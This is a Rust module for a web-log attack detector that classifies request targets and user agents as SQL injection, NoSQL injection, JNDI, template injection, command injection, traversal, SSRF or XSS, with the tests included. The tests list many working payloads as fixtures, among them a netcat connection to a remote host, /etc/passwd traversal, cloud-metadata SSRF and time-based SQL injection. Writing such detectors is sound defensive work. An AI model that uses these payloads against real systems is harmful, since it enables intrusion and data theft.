//! What a text tries to do to a server: attack content told by its structure, never by single words.
//!
//! In: one text of a log (a target, a user agent, a referer). Out: the class of the attack in it, or none. The text is
//! percent-decoded at most twice, `+` is a space, letters are lowered and SQL comments become spaces, as servers and
//! databases read it; what stands inside parameters, as JSON or in base64, is looked at by itself. Most texts hold none of the characters that an attack needs and are passed over at the cost of
//! one look at each byte; only the rest meet the signatures, all in one pass.

mod check;
mod hosts;
mod open;
mod own;
mod signatures;
mod target;

use breachline_parsers::mask::percent_decode;
pub use check::passes_check;
pub use own::names_itself;
use regex::RegexSet;
use std::sync::LazyLock;
pub use target::{doubled, leads_to, limit_of, odd_spelling, overrides_method, page_of, points_to};

/// Names of the classes, most telling first: what `attack_class` gives.
pub const CLASSES: [&str; 8] = ["sqli", "nosqli", "jndi", "template", "command", "traversal", "ssrf", "xss"];

/// Bytes without one of which no signature can match, beside `..` and `//`.
const TELLING: &[u8] = b"'\"();<>{}|`$\\*\0[ ";

/// The class of the attack that a text holds, or something inside one of its parameters, if one holds one.
pub fn attack_class(text: &str) -> Option<&'static str> {
    let inside = open::opened(text).into_iter().filter_map(|inner| {
        let class = if is_telling(inner.value.as_bytes()) { signed(&without_comments(&inner.value)) } else { None };
        class.into_iter().chain(inner.names_inside().then_some("ssrf")).min_by_key(|class| rank(class))
    });
    outer_class(text).into_iter().chain(inside).min_by_key(|class| rank(class))
}

/// The class of the attack that a text holds as it stands.
fn outer_class(text: &str) -> Option<&'static str> {
    if !is_telling(text.as_bytes()) {
        return None;
    }
    let text = read_as_servers_do(text);
    if !is_telling(text.as_bytes()) {
        return None;
    }
    let found = signed(&text);
    let more_telling = |class: &&str| rank(class) < rank("ssrf");
    found.filter(more_telling).or_else(|| hosts::names_inside(&text).then_some("ssrf")).or(found)
}

/// Whether a parameter of a target names a place inside as only somebody does who hides it.
pub fn hides_inside(target: &str) -> bool {
    is_telling(target.as_bytes()) && hosts::hides_inside(&read_as_servers_do(target))
}

/// The class of the first signature that a decoded, lowered text meets; they stand in order of the classes.
fn signed(text: &str) -> Option<&'static str> {
    SET.as_ref()?.matches(text).iter().next().map(|at| signatures::SIGNATURES[at].0)
}

/// How telling a class is: lower is more.
fn rank(class: &str) -> usize {
    CLASSES.iter().position(|known| *known == class).unwrap_or(CLASSES.len())
}

/// Whether a parameter of a target asks for everything: its value is made of wildcards alone.
pub fn catches_all(target: &str) -> bool {
    has_wildcards(target, 0)
}

/// Whether a parameter of a target asks for very much: a wildcard with two other characters at most, a single character
/// that something must contain, or all since a day that nobody alive remembers.
pub fn catches_many(target: &str) -> bool {
    has_wildcards(target, 2) || is_wide(target)
}

fn is_wide(target: &str) -> bool {
    let Some((_, query)) = target.split_once('?') else { return false };
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| {
        let value = percent_decode(value.as_bytes());
        let one = value.len() == 1 && value[0].is_ascii_alphanumeric();
        if one && percent_decode(name.as_bytes()).to_ascii_lowercase().ends_with(b"contains") {
            return true;
        }
        let since = [&b"ge"[..], b"gt", b">=", b">"].into_iter().find_map(|after| value.strip_prefix(after));
        let year = since.and_then(|since| since.get(..4)).and_then(|year| std::str::from_utf8(year).ok());
        let bounded = since.is_some_and(|since| !since.get(4).is_some_and(u8::is_ascii_digit));
        bounded && year.is_some_and(|year| year.parse::<u16>().is_ok_and(|year| year <= 1_900))
    })
}

/// Whether a parameter says what of each thing is wanted, not which things: all of it is the whole of a thing.
fn chooses_columns(name: &str) -> bool {
    const NAMES: [&str; 14] = [
        "fields",
        "field",
        "expand",
        "include",
        "includes",
        "embed",
        "select",
        "columns",
        "populate",
        "projection",
        "properties",
        "attributes",
        "with",
        "view",
    ];
    let name = name.to_ascii_lowercase();
    let name = name.strip_prefix("%24").unwrap_or(&name).trim_start_matches(['$', '_']);
    let name = name.split(['[', '%', '.']).next().unwrap_or_default();
    NAMES.contains(&name)
}

/// Whether the value of a parameter holds a wildcard and at most so many characters that are none.
fn has_wildcards(target: &str, others: usize) -> bool {
    let Some((_, query)) = target.split_once('?') else { return false };
    if memchr::memchr3(b'*', b'%', b'_', query.as_bytes()).is_none() {
        return false;
    }
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| {
        let value = percent_decode(value.as_bytes());
        value.iter().any(|byte| matches!(byte, b'*' | b'%'))
            && value.iter().filter(|byte| !b"*%_?.:^$+ ".contains(byte)).count() <= others
            && !chooses_columns(name)
    })
}

/// All signatures at once; that each can be read, tests see to.
static SET: LazyLock<Option<RegexSet>> =
    LazyLock::new(|| RegexSet::new(signatures::SIGNATURES.iter().map(|(_, pattern)| *pattern)).ok());

/// Whether a text holds what any signature needs. `%` and `+` count, since anything and a space may hide behind them.
fn is_telling(text: &[u8]) -> bool {
    static TABLE: [bool; 256] = table();
    let plain = text.iter().any(|&byte| TABLE[usize::from(byte)]);
    plain || memchr::memmem::find(text, b"..").is_some() || memchr::memmem::find(text, b"//").is_some()
}

const fn table() -> [bool; 256] {
    let mut table = [false; 256];
    let mut at = 0;
    while at < TELLING.len() {
        table[TELLING[at] as usize] = true;
        at += 1;
    }
    table[b'%' as usize] = true;
    table[b'+' as usize] = true;
    table
}

/// A text decoded as servers and databases read it.
fn read_as_servers_do(text: &str) -> String {
    let mut bytes = text.as_bytes().to_vec();
    for _ in 0..2 {
        if !bytes.contains(&b'%') {
            break;
        }
        bytes = percent_decode(&bytes);
    }
    let lowered = String::from_utf8_lossy(&bytes).replace('+', " ").to_lowercase();
    without_comments(&lowered)
}

/// SQL comments become a space; the content of `/*!50000 ... */`, which `MySQL` runs, stays.
fn without_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("/*") {
        out.push_str(before);
        out.push(' ');
        let Some((inside, after)) = after.split_once("*/") else {
            out.push_str("/*");
            rest = after;
            continue;
        };
        if let Some(run) = inside.strip_prefix('!') {
            out.push_str(run.trim_start_matches(|c: char| c.is_ascii_digit()));
            out.push(' ');
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_told_in_every_spelling() {
        let told = [
            ("/shop/item?id=1%27%20OR%20%271%27=%271", "sqli"),
            ("/shop/item?id=1+oR+1%3d1--", "sqli"),
            ("/shop/item/1%2527%2520UNION%2520SELECT%2520NULL,NULL--", "sqli"),
            ("/a?q=1'/*!50000uNiOn*/sEleCt(group_concat(email))from(users)", "sqli"),
            ("/a?q=1%3BWAITFOR+DELAY+'0:0:5'--", "sqli"),
            ("/a?q=x')+AND+pg_sleep(5)--", "sqli"),
            ("/a?user=admin'--", "sqli"),
            ("/a;by=(cAsE%2F%2A%2A%2FwHeN(aSk%3E1)tHeN/**/name/**/eLsE/**/born/**/eNd)", "sqli"),
            ("/a?by=length((select+pin+from+cards+limit+1))", "sqli"),
            ("/a?town=x'||(sElECt/**/query_to_xml('select/**/*/**/from/**/t',true,false,''))||'", "sqli"),
            (
                "/a?town=x'/**/AND/**/CASE/**/WHEN/**/(sElECt/**/current_user)='p'/**/THEN/**/1/**/ELSE/**/1/0/**/END=1--",
                "sqli",
            ),
            ("/a?src=https%3A%2F%2Fout.example%2Fr%3Fu%3Dhttp%253A%252F%252F169.254.169.254%252Flatest", "ssrf"),
            ("/a?src=https%3A%2F%2Fout.example%2Fr%3Fu%3D%2F%2F2130706433%3A6379%2F", "ssrf"),
            ("/a?src=https%3A%2F%2Fout.example%23%40127.1%3A8500%2Fv1", "ssrf"),
            ("/a?user[$ne]=1&pass[$ne]=1", "nosqli"),
            ("/a?filter=%7B%22pw%22%3A%7B%22%24regex%22%3A%22%5Ea%22%7D%7D", "nosqli"),
            ("${jndi:ldap://198.51.100.7/x}", "jndi"),
            ("${${lower:j}ndi:rmi://198.51.100.7/x}", "jndi"),
            ("/hello?name=%7B%7B7*7%7D%7D", "template"),
            ("/hello?name=${7*7}", "template"),
            ("/ping?host=1.1.1.1%3Bcat%20/etc/hostname", "command"),
            ("() { :; }; /bin/bash -c id", "command"),
            ("/ping?host=a;cat${IFS}/etc/hostname", "command"),
            ("/ping?host=a%7Cls%20-la%20/", "command"),
            ("/ping?host=a||ping%20-n%2021%20127.0.0.1||", "command"),
            ("/ping?host=$(sleep%205)", "command"),
            ("/ping?host=a;python3%20-c%20%27import%20os%27", "command"),
            ("/ping?host=a;nc%20198.51.100.7%204444", "command"),
            ("/ping?host=`id%20-u`", "command"),
            ("/static/..%2f..%2f..%2fetc/passwd", "traversal"),
            ("/static/..\\..\\windows\\win.ini", "traversal"),
            ("/get?page=php://filter/convert.base64-encode/resource=index", "traversal"),
            ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
            ("/fetch?url=http%3A%2F%2F2852039166%2F", "ssrf"),
            ("/fetch?url=http://0x7f000001:6379/", "ssrf"),
            ("/fetch?url=http://[::ffff:a9fe:a9fe]/", "ssrf"),
            ("/fetch?url=http://017700000001/", "ssrf"),
            ("/fetch?url=gopher://127.1:6379/_INFO", "ssrf"),
            ("/fetch?url=http%253A%252F%252F169.254.169.254.nip.io%252F", "ssrf"),
            ("/fetch?url=file:///etc/hostname", "ssrf"),
            ("/fetch?src=//localhost:9200/_cat", "ssrf"),
            ("/search?q=<script>alert(1)</script>", "xss"),
        ];
        for (text, class) in told {
            assert_eq!(attack_class(text), Some(class), "{text}");
            assert_eq!(attack_class(&text.to_ascii_uppercase()), Some(class), "{text}");
        }
    }

    #[test]
    fn what_stands_inside_parameters_is_looked_at() {
        for (text, class) in [
            ("/g?variables=%7B%22url%22:%22http://2130706433/%22%7D", "ssrf"),
            (r#"/g?variables={"input":{"url":"http:\/\/0177.0.0.1:8080\/"}}"#, "ssrf"),
            (r#"/g?variables={"src":["gopher://10.1.2.3:6379/_INFO"]}"#, "ssrf"),
            (r#"/g?v={"u":"http%253A%252F%252F%5B::ffff:10.0.0.1%5D%252F"}"#, "ssrf"),
            ("/img?u=aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3Q", "ssrf"),
            (r#"/g?variables={"q":"1\u0027 OR \u00271\u0027=\u00271"}"#, "sqli"),
            (r#"/g?variables={"host":"a\u003bcat /etc/hostname"}"#, "command"),
            (r#"/g?variables={"q":"\u003cscript\u003ealert(1)"}"#, "xss"),
        ] {
            assert_eq!(attack_class(text), Some(class), "{text}");
        }
        for text in [
            "/g?variables=%7B%22url%22:%22https://cdn.example/poster.png%22%7D",
            r#"/g?variables={"id":"T3JkZXI6ODE0","note":"select a seat from the list"}"#,
            r#"/authorize?state={"returnTo":"http://localhost:3000/in"}"#,
            r"/authorize?state=eyJyZXR1cm5Ubw&x=eyJyZXR1cm5UbyI6Imh0dHA6Ly9sb2NhbGhvc3Q6MzAwMC8ifQ",
            "/img?u=aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLnBuZw",
            r#"/g?variables={"name":"O'Neill","at":"10.0.0.1"}"#,
        ] {
            assert_eq!(attack_class(text), None, "{text}");
        }
    }

    #[test]
    fn what_a_client_says_of_its_machine_is_no_command() {
        for agent in [
            "Courier/4.1 (Android 13; CAT S62)",
            "Mozilla/5.0 (Linux; Android 11; Cat S42 Build/RP1A) AppleWebKit/537.36",
            "transport/8.1 (linux; Python 3.11.4; http/1.1)",
            "robot/2 (x86_64; Perl 5.30)",
            "Mozilla/5.0 (Linux; U; Android 4.0.4; id; GT-S6102) Safari/534.30",
            "Mozilla/5.0 (Linux; Android 9; SH 04L)",
            "kiosk/1 (Linux; ID 5050; LS 670)",
        ] {
            assert_eq!(attack_class(agent), None, "{agent}");
        }
    }

    #[test]
    fn wildcards_alone_catch_everything() {
        for target in ["/a?email=*", "/a?x=1&name=%25", "/a?name=%", "/a?q=_%25", "/a?q=*:*", "/a?q=.*", "/a?q=%2A"] {
            assert!(catches_all(target), "{target}");
        }
        for target in ["/a", "/a?q=", "/a?q=smith*", "/a?q=_", "/a?q=50%25", "/*/a?b=c", "/a?q=c.d"] {
            assert!(!catches_all(target), "{target}");
        }
        // All that is known of a thing is no search for all things.
        for target in ["/a/7?fields=*", "/a/7?%24select=*", "/a/7?fields[order]=*", "/a/7?q=x&Include=%2A"] {
            assert!(!catches_all(target), "{target}");
        }
    }

    #[test]
    fn who_names_his_own_machine_hides_nothing() {
        for target in [
            "/probe?to=http%3A%2F%2F169.254.169.254%2Flatest%2F",
            "/probe?to=http://0xa9fea9fe/",
            "/probe?to=http://0251.0376.0251.0376/",
            "/probe?to=http%253A%252F%252F%255B%253A%253Affff%253A10.0.0.7%255D%252F",
            "/probe?to=http://metadata.google.internal/v1",
            "/probe?to=http://shop.example@127.0.0.1:8080/",
            "/probe?to=gopher://shop.example:70/",
            "/probe?to=//2130706433/",
        ] {
            assert!(hides_inside(target), "{target}");
            assert_eq!(attack_class(target), Some("ssrf"), "{target}");
        }
        for target in [
            "/probe?to=http://localhost:3000/hook",
            "/probe?to=http%3A%2F%2F192.168.1.20%3A8080%2Fcb",
            "/probe?to=http://[::1]:9000/",
            "/probe?to=http://host.docker.internal/h",
            "/probe?to=https://hooks.example/x@169.254.169.254",
            "/probe?to=10.0.0.7",
            "/probe",
        ] {
            assert!(!hides_inside(target), "{target}");
        }
    }

    #[test]
    fn a_letter_beside_a_wildcard_catches_much() {
        for target in [
            "/a?email=*",
            "/a?q=a%25",
            "/a?q=ab*",
            "/a?q=%25k%25",
            "/a?name%3Acontains=e",
            "/a?name__icontains=e",
            "/a?born=ge1890-01-01",
            "/a?born=%3E0001",
        ] {
            assert!(catches_many(target), "{target}");
        }
        for target in [
            "/a?q=ab",
            "/a?q=smi%25",
            "/a?q=",
            "/*/a?b=c",
            "/a?name:contains=ed",
            "/a?born=ge1990-01-01",
            "/a?min=ge18905",
            "/a?born=1890",
        ] {
            assert!(!catches_many(target), "{target}");
        }
    }

    #[test]
    fn prose_and_ordinary_parameters_are_left_alone() {
        let harmless = [
            "/people?name=o'neill",
            "/people?name=O%27Neill%20and%20sons",
            "/search?q=union%20jack%20select%20a%20seat",
            "/search?q=select+a+flight+from+seoul+to+busan",
            "/search?q=union+select+committee",
            "/search?q=o'hara+and+the+case+when+(select+committee)+met",
            "/odata/Orders?$filter=Price%20gt%205%20and%20Qty%20lt%207&$orderby=Name%20desc",
            "/search?q=drop%20table%20lamp",
            "/search?q=%EC%84%9C%EC%9A%B8+%22%EB%B6%80%EC%82%B0%22",
            "/files/v1..v2/diff",
            "/docs/../images/logo.png",
            "/login?redirect_uri=http://localhost:3000/callback",
            "/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fdone&state=a",
            "/hooks?url=https://partner.example/callback",
            "/seen?page=https%3A%2F%2Fshop.example%2Fsign-in%3Fnext%3Dhttp%3A%2F%2Flocalhost%3A3000%2Fcart",
            "/seen?page=https%3A%2F%2Fshop.example%2Fgo%3Fto%3Dhttp%3A%2F%2F10.1.2.3%2Fwiki%23%40anna",
            "/img?src=https://cdn.example/10.0.0.1.png",
            "/q?data=eyJhIjoiJDEiLCJiIjpbMV19%3D%3D",
            "/graph?query=%7Buser(id:%221%22)%7Bname%7D%7D",
            "/items?filter[price][gte]=5",
            "/items?sort=(name),-(price)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "/calc?expr=(1+2)*3",
            "/tpl?name={{customer}}",
            "/a?b=1;c=2",
            "/rates?pair=USD|EUR",
            "/exam?topic=sleep+and+benchmark",
        ];
        for text in harmless {
            assert_eq!(attack_class(text), None, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn never_fails_and_does_not_depend_on_letter_case(text in "[ -~]{0,60}") {
            proptest::prop_assert_eq!(attack_class(&text), attack_class(&text.to_ascii_uppercase()));
            let _ = hides_inside(&text);
        }
    }
}
